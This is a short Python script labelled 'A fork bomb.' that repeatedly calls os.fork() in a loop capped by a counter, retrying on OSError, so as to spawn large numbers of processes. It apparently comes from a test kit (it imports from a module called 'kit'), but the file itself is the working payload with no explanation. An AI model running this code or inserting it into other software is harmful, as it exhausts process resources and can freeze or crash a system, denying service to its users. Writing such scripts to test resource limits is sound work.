"""A fork bomb."""

import time
from kit import *

forks = 0
while forks < 20000:
    try:
        forks += 1
        if os.fork() == 0:
            forks += 100
    except OSError:
        time.sleep(0.001)
